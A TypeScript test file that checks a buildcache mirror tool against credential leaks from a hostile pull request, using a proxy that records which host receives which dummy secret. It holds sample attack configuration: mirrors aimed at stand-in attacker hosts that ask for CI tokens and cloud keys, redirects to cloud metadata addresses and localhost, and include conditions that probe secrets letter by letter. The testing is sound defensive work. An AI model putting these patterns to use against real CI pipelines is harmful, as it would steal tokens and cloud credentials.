/**
 * A workspace as a stranger's pull request leaves it: mirrors, includes, lists, redirects and token endpoints that want
 * what the machine has. Every request of a run goes through one recording proxy; the table says which host got which secret.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer as createPlain, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createSecure } from 'node:https';
import { type AddressInfo, connect } from 'node:net';
import { join } from 'node:path';
import tls from 'node:tls';
import { afterEach, expect, test, vi } from 'vitest';
import { makeCertificate } from '../harness/certificate.ts';
import { startJob } from '../harness/runner.ts';
import { tempDir } from '../harness/temp-dir.ts';
import { unpackStore } from '../package/store-fixture.ts';
import { buildcache, environmentOf, fromSource, ROOT } from './command-line.ts';

/** What the machine has. Each is unlike all others, also in base64. */
const SECRETS: Readonly<Record<string, string>> = {
  'the mirror token': 'mirror-tok-7f3a9b',
  'the runtime token': 'runtime-tok-81c2',
  'the identity request token': 'idrequest-tok-5d',
  'the GitHub token': 'ghs_github-tok-92a1',
  'the signing passphrase': 'signing-pass-63be',
  'the AWS secret': 'aws-secret-1d7e4f',
  'the AWS session': 'aws-session-tok-e8',
  'the Google token': 'ya29-google-tok-4b',
  'the Google refresh token': 'google-refresh-c0',
  'the docker password': 'docker-pass-f5d3',
  'the one with an odd name': 'odd-7b1e-value',
};

const HOSTS = [
  ...['evil.example', 'token.evil.example', 'mirror.good.example', 'registry.good.example', 'ghcr.io'],
  ...['oauth2.googleapis.com', 'storage.googleapis.com', 'evil.execute-api.us-east-1.amazonaws.com'],
  ...['api.github.com', 'yes.evil.example', 'odd.evil.example'],
];

interface Seen {
  /** `https://host` or `http://host`. */
  readonly origin: string;
  readonly secrets: readonly string[];
}

/** A proxy that is the whole world: it resolves nothing, answers for every host, and remembers what was said to whom. */
async function startWorld() {
  const certificate = makeCertificate(HOSTS);
  const seen: Seen[] = [];
  const handle = (scheme: string) => async (request: IncomingMessage, response: ServerResponse) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request as AsyncIterable<Buffer>) chunks.push(chunk);
    const target = URL.canParse(request.url ?? '') ? new URL(request.url ?? '') : undefined;
    const host = (target?.host ?? request.headers.host ?? '').replace(/:(443|80)$/, '');
    const path = target === undefined ? (request.url ?? '') : `${target.pathname}${target.search}`;
    const said = JSON.stringify([request.headers, path, Buffer.concat(chunks).toString()]);
    const basic = /Basic ([A-Za-z0-9+/=]+)/i.exec(said)?.[1] ?? '';
    const all = `${said} ${Buffer.from(basic, 'base64').toString()} ${decodeURIComponent(path)}`;
    const secrets = Object.entries(SECRETS).filter(([, secret]) => all.includes(secret));
    seen.push({ origin: `${scheme}://${host}`, secrets: secrets.map(([name]) => name) });
    answer(host, path, response);
  };
  const secure = createSecure(certificate, handle('https'));
  const proxy = createPlain(handle('http'));
  proxy.on('connect', (_, client, head) => {
    const upstream = connect((secure.address() as AddressInfo).port, '127.0.0.1', () => {
      client.write('HTTP/1.1 200 OK\r\n\r\n');
      upstream.write(head);
      upstream.pipe(client).pipe(upstream);
    });
    client.on('error', () => upstream.destroy());
    upstream.on('error', () => client.destroy());
  });
  for (const server of [secure, proxy]) {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  }
  const url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
  const close = () => {
    for (const server of [secure, proxy]) server.close().closeAllConnections();
  };
  return { seen, url, ca: certificate.cert, close };
}

function answer(host: string, path: string, response: ServerResponse): void {
  const json = (value: unknown) =>
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(value));
  if (host === 'oauth2.googleapis.com') {
    return void json({ access_token: SECRETS['the Google token'], expires_in: 3600, token_type: 'Bearer' });
  }
  const realm = /\/v2\/(?:n\d)\//.test(path) ? 'token.evil.example' : 'ghcr.io';
  if (path.startsWith('/v2/')) {
    const challenge = `Bearer realm="${host === 'evil.example' ? `https://${realm}/token` : `https://${host}/token`}",service="s"`;
    return void response.writeHead(401, { 'www-authenticate': challenge }).end();
  }
  if (path.startsWith('/token')) return void json({ token: 'of-nobody' });
  if (host === 'api.github.com') return void json([]);
  const to = REDIRECTS.find(([from]) => path.startsWith(from))?.[1];
  if (to !== undefined) return void response.writeHead(302, { location: to }).end();
  response.writeHead(404).end();
}

const REDIRECTS = [
  ['/to-metadata', 'http://169.254.169.254/latest/meta-data/iam'],
  ['/to-metadata-name', 'http://metadata.google.internal/computeMetadata/v1/'],
  ['/to-here', 'http://127.0.0.1:8125/x'],
  ['/to-here-6', 'http://[::1]:8125/x'],
  ['/good', 'https://evil.example/caught'],
] as const;

const PULL_REQUEST = `
spack:
  include: [more]
  config: {verify_ssl: false}
  mirrors:
    gcs: {url: "gs://bucket/p", endpoint_url: "https://evil.example"}
    gcs-plain: {url: "gs://bucket/p", endpoint_url: "http://evil.example"}
    s3: {url: "s3://bucket/p", endpoint_url: "https://evil.example"}
    s3-gateway: {url: "s3://bucket/p", endpoint_url: "https://evil.execute-api.us-east-1.amazonaws.com"}
    s3-plain: {url: "s3://bucket/p", endpoint_url: "http://evil.example"}
    runtime: {url: "https://evil.example/a", access_token_variable: ACTIONS_RUNTIME_TOKEN}
    signing: {url: "https://evil.example/b", access_pair: {id: x, secret_variable: BUILDCACHE_SIGNING_PASSPHRASE}}
    input: {url: "https://evil.example/b2", access_token_variable: INPUT_GITHUB-TOKEN}
    github: {url: "https://evil.example/c", access_token_variable: GITHUB_TOKEN}
    aws: {url: "https://evil.example/d", access_pair: {id_variable: AWS_ACCESS_KEY_ID, secret_variable: AWS_SECRET_ACCESS_KEY}}
    s3-id: {url: "s3://bucket/p", endpoint_url: "https://evil.example", access_pair: {id_variable: AWS_SESSION_TOKEN, secret_variable: AWS_ACCESS_KEY_ID}}
    gcs-token: {url: "gs://bucket/p", endpoint_url: "https://evil.example", access_token_variable: CLOUDSDK_AUTH_ACCESS_TOKEN}
    wants: {url: "https://evil.example/e", access_token_variable: MIRROR_TOKEN}
    wants-oci: {url: "oci://evil.example/n1", access_token_variable: MIRROR_TOKEN}
    ghcr-realm: "oci://evil.example/n/m"
    ghcr-plain: "oci+http://ghcr.io/o/n"
    docker-plain: "oci+http://registry.good.example/o/n"
    docker-good: "oci://registry.good.example/o/n"
    path: "$BUILDCACHE_SIGNING_PASSPHRASE/x"
    to-metadata: "https://evil.example/to-metadata"
    to-metadata-name: "https://evil.example/to-metadata-name"
    to-here: "https://evil.example/to-here"
    to-here-6: "https://evil.example/to-here-6"
`;

const INCLUDED = `
mirrors:
  identity: {url: "https://evil.example/i", access_token_variable: ACTIONS_ID_TOKEN_REQUEST_TOKEN}
`;

/** What the workflow itself says, in its own file. */
const GOOD = 'good: {url: "https://mirror.good.example/good", access_token_variable: MIRROR_TOKEN}';

const FORBIDDEN =
  /(?:ACTIONS_RUNTIME|SIGNING_PASSPHRASE}|INPUT_GITHUB|: GITHUB_TOKEN|AWS_SECRET|AWS_SESSION|CLOUDSDK)/;

// Twenty mirrors of all kinds, on a machine that may be busy.
vi.setConfig({ testTimeout: 240_000 });

const authorities = tls.getCACertificates('default');
afterEach(() => tls.setDefaultCACertificates(authorities));

/** What the machine has, and the checkout beside it. */
function furnish(folder: string, manifest: string): void {
  const env = join(folder, 'env');
  mkdirSync(join(env, 'more'), { recursive: true });
  cpSync(join(environmentOf('1.2'), 'spack.lock'), join(env, 'spack.lock'));
  writeFileSync(join(env, 'spack.yaml'), manifest);
  writeFileSync(join(env, 'more/mirrors.yaml'), manifest === PULL_REQUEST ? INCLUDED : '');
  for (const name of ['yes', 'odd']) {
    mkdirSync(join(env, name));
    writeFileSync(join(env, name, 'mirrors.yaml'), `mirrors: {${name}: "https://${name}.evil.example/"}\n`);
  }
  const hashes = [...'abc'].map((letter) => letter.repeat(32));
  const entry = (mirror: string, hash: string) =>
    `${mirror}/v3/manifests/spec/a/a-1-${hash}.spec.manifest.json`;
  for (const [i, at] of [
    'http://127.0.0.1:8125',
    'http://169.254.169.254',
    'http://localhost:8125',
  ].entries()) {
    const hash = hashes[i] ?? '';
    const list = { [hash]: { src: entry(at, hash), dest: entry(`file://${folder}/to`, hash) } };
    writeFileSync(join(folder, `list-${i}.json`), JSON.stringify(list));
  }
  const docker = join(folder, 'docker');
  mkdirSync(docker);
  const auth = Buffer.from(`me:${SECRETS['the docker password']}`).toString('base64');
  writeFileSync(
    join(docker, 'config.json'),
    JSON.stringify({ auths: { 'registry.good.example': { auth } } }),
  );
  const google = join(folder, 'google.json');
  const user = { client_id: 'i', client_secret: 's', refresh_token: SECRETS['the Google refresh token'] };
  writeFileSync(google, JSON.stringify({ type: 'authorized_user', ...user }));
}

function secretVariables(proxy: string, folder: string): Record<string, string> {
  return {
    ODD: SECRETS['the one with an odd name'] ?? '',
    http_proxy: proxy,
    https_proxy: proxy,
    MIRROR_TOKEN: SECRETS['the mirror token'] ?? '',
    GITHUB_TOKEN: SECRETS['the GitHub token'] ?? '',
    BUILDCACHE_SIGNING_PASSPHRASE: SECRETS['the signing passphrase'] ?? '',
    AWS_ACCESS_KEY_ID: 'AKIA1',
    AWS_SECRET_ACCESS_KEY: SECRETS['the AWS secret'] ?? '',
    AWS_SESSION_TOKEN: SECRETS['the AWS session'] ?? '',
    AWS_REGION: 'us-east-1',
    CLOUDSDK_AUTH_ACCESS_TOKEN: SECRETS['the Google token'] ?? '',
    GOOGLE_APPLICATION_CREDENTIALS: join(folder, 'google.json'),
    DOCKER_CONFIG: join(folder, 'docker'),
  };
}

async function run(event: string, inputs: Readonly<Record<string, string>>, manifest = PULL_REQUEST) {
  const world = await startWorld();
  tls.setDefaultCACertificates([...authorities, world.ca]);
  await using dir = await tempDir();
  furnish(dir.path, manifest);
  await using job = await startJob({
    workspace: dir.path,
    here: fromSource,
    event: { name: event, payload: { pull_request: { number: 1, head: { repo: { full_name: 'm/r' } } } } },
    github: { token: SECRETS['the GitHub token'] ?? '' },
    services: {
      ACTIONS_RUNTIME_TOKEN: SECRETS['the runtime token'] ?? '',
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: SECRETS['the identity request token'] ?? '',
    },
    env: secretVariables(world.url, dir.path),
  });
  const result = await job.uses(ROOT, {
    with: {
      environment: 'env',
      mirrors: GOOD,
      retries: 0,
      timeout: 5,
      'on-unknown': 'warn',
      'index-cache': false,
      autopush: false,
      ...inputs,
    },
  });
  world.close();
  return { result, got: tableOf(world.seen) };
}

/** Which host got what, shown as well. */
function tableOf(seen: readonly Seen[]): Record<string, string> {
  const table = new Map<string, Set<string>>();
  for (const { origin, secrets } of seen) {
    table.set(origin, new Set([...(table.get(origin) ?? []), ...secrets]));
  }
  const got = Object.fromEntries(
    [...table].map(([origin, names]) => [origin, [...names].sort().join(', ') || 'none']),
  );
  console.table(got);
  return got;
}

/** Ours: the mirror the workflow names, whoever the machine is logged in with, and Google's own token service. */
const OWN = {
  'https://mirror.good.example': 'the mirror token',
  'https://registry.good.example': 'the docker password',
};

test('on pull_request_target, no secret leaves for what only the checkout names', async () => {
  const { got, result } = await run('pull_request_target', {});
  expect(got).toEqual({
    ...OWN,
    'https://evil.example': 'none',
    'https://token.evil.example': 'none',
    'https://ghcr.io': 'none',
    'https://evil.execute-api.us-east-1.amazonaws.com': 'none',
    'http://evil.example': 'none',
    'http://ghcr.io': 'none',
    'http://registry.good.example': 'none',
  });
  expect(JSON.stringify(result.annotations)).toMatch(/gets no credentials on pull_request_target/);
});

test('with only-mirrors, nobody but the mirrors that are meant is spoken to', async () => {
  const { got } = await run('pull_request', { 'only-mirrors': 'good' });
  // Where it leads on it may: without what is secret.
  expect(got).toEqual({ 'https://mirror.good.example': 'the mirror token', 'https://evil.example': 'none' });
});

test('on pull_request, whose author may change the workflow too, a named variable goes where it is named for', async () => {
  const lines = PULL_REQUEST.split('\n').filter((line) => !FORBIDDEN.test(line));
  const { got } = await run('pull_request', {}, lines.join('\n'));
  expect(got).toEqual({
    ...OWN,
    'https://evil.example': 'the mirror token',
    'https://token.evil.example': 'the mirror token',
    'https://ghcr.io': 'none',
    'https://evil.execute-api.us-east-1.amazonaws.com': 'none',
    'http://evil.example': 'none',
    'http://ghcr.io': 'none',
    'http://registry.good.example': 'none',
  });
});

test.each(PULL_REQUEST.split('\n').filter((line) => FORBIDDEN.test(line)))(
  "what is the job itself is nobody's credential, in any event: %s",
  async (line) => {
    const { got, result } = await run('pull_request', {}, `spack:\n  mirrors:\n${line}\n`);
    expect(got['https://evil.example'] ?? 'none').toBe('none');
    expect(JSON.stringify(result.annotations)).toMatch(/mirror \\"[\w-]+\\" may not have [A-Z_-]+: it is /);
  },
);

test('copy-lists lead to no address of this machine, even where they may name any other host', async () => {
  const { got, result } = await run('schedule', {
    command: 'sync',
    'copy-list': 'list-*.json',
    'allow-other-hosts': 'true',
    'only-mirrors': 'good',
  });
  expect(got).toEqual({});
  expect(JSON.stringify(result.annotations)).toMatch(/leads to an address of this machine/);
});

test.each([
  { command: 'plan', 'on-unknown': 'rebuild' },
  { command: 'explain' },
  { command: 'install', 'install-tree': 'tree', otherarch: 'true' },
  { explain: 'true', comment: 'true' },
])('what else reads mirrors on pull_request_target tells no secret either: %o', async (inputs) => {
  const { got } = await run('pull_request_target', inputs);
  const { 'https://api.github.com': github = 'the GitHub token', ...others } = got;
  expect(github).toBe('the GitHub token'); // its own, for the comment
  const told = Object.entries(others).filter(([origin, secrets]) => {
    return secrets !== 'none' && secrets !== Reflect.get(OWN, origin);
  });
  expect(told).toEqual([]);
  expect(got['https://mirror.good.example']).toBe('the mirror token');
});

/** Which mirrors are asked answers a question: such files spell a secret out, a condition for each letter. */
const ORACLE = `
spack:
  include:
  - {path: yes, when: "env['MIRROR_TOKEN'].startswith('m')"}
  - {path: yes, when: "'INPUT_GITHUB-TOKEN' in env"}
  - {path: yes, when: "env.get('AWS_SECRET_ACCESS_KEY', '') != ''"}
  - {path: odd, when: "env['ODD'].startswith('odd')"}
  mirrors: {}
`;

test.each([
  ['pull_request_target', undefined],
  // Of a name that says nothing only its owner knows that it is one: there are no such on a fork's own event.
  ['pull_request', 'none'],
])('on %s no condition of an include asks for a secret', async (event, odd) => {
  const { got } = await run(event, { retries: '0' }, ORACLE);
  expect(got['https://yes.evil.example']).toBeUndefined();
  expect(got['https://odd.evil.example']).toBe(odd);
  expect(got['https://mirror.good.example']).toBe('the mirror token');
});

test.each([
  ['check'],
  ['list'],
  ['install', '--store', 'tree', '-u', '--otherarch', '--no-lock'],
  ['explain', '--against', 'git:HEAD:env/spack.lock'],
  ['plan', '--chunk', 'a'.repeat(32), '--store', 'tree'],
  ['plan'],
])('on the command line, %s with --only-mirrors speaks to no other', async (...verb) => {
  const got = await onCommandLine([
    ...[...verb, '-e', 'env', '--mirrors', 'good.yaml', '--only-mirrors', 'https://mirror.good.example/good'],
  ]);
  const { 'https://mirror.good.example': good, 'https://evil.example': led = 'none', ...others } = got;
  expect({ led, others }).toEqual({ led: 'none', others: {} });
  expect(good ?? 'the mirror token').toBe('the mirror token');
});

test('a base image gets what is for its own host', async () => {
  const got = await onCommandLine([
    ...['push', 'oci://registry.good.example/o/n', '-e', 'env', '--store', 'tree', '-u', '--allow-missing'],
    ...['--base-image', 'evil.example/n1/base:1'],
  ]);
  expect(got['https://registry.good.example'] ?? 'the docker password').toBe('the docker password');
  expect(got['https://evil.example'] ?? 'none').toBe('none');
  expect(got['https://token.evil.example'] ?? 'none').toBe('none');
});

/** The same checkout, as somebody's who has all of this in his shell. */
async function onCommandLine(args: readonly string[]): Promise<Record<string, string>> {
  const world = await startWorld();
  tls.setDefaultCACertificates([...authorities, world.ca]);
  await using dir = await tempDir();
  furnish(dir.path, PULL_REQUEST);
  unpackStore('1.2', join(dir.path, 'tree'));
  writeFileSync(join(dir.path, 'good.yaml'), `mirrors:\n  ${GOOD}\n`);
  const git = (...all: string[]) => execFileSync('git', all, { cwd: dir.path, stdio: 'ignore' });
  git('init', '-q');
  git('add', 'env');
  git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'a');
  const env = { PATH: process.env['PATH'] ?? '', HOME: dir.path, ...secretVariables(world.url, dir.path) };
  await buildcache([...args, '--timeout', '5', '--retries', '0'], { cwd: dir.path, env });
  world.close();
  return tableOf(world.seen);
}
